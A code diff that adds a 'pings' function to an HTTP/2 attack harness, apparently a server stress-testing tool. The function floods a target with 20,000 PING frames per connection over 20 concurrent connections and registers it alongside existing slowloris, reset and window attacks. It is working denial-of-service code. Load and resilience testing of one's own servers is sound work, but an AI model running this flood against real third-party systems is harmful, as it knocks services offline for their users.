@@ -474,6 +474,24 @@ async def garbage(peer: Peer) -> None:
     await peer.many(work(), 20)
 
 
+async def pings(peer: Peer) -> None:
+    """Pings by the thousand over connections without a call."""
+    flood = PREFACE + frame(4, 0, 0) + 20_000 * frame(6, 0, 0, b"12345678")
+
+    async def one() -> None:
+        while peer.goes_on and (connection := await peer.connect()) is not None:
+            reader, writer = connection
+            with contextlib.suppress(OSError, TimeoutError):
+                async with asyncio.timeout(2.0):
+                    writer.write(flood)
+                    while await reader.read(1 << 16):
+                        pass
+            peer.told["said"] += 1
+            writer.transport.abort()
+
+    await asyncio.gather(*(one() for _ in range(20)))
+
+
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     """A frame of HTTP/2."""
     return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload
@@ -570,7 +588,7 @@ ATTACKS: dict[str, Attack] = {
             lists,
             runs,
         ),
-        *(loris, garbage, no_window, resets),
+        *(loris, garbage, no_window, resets, pings),
     )
 }
 
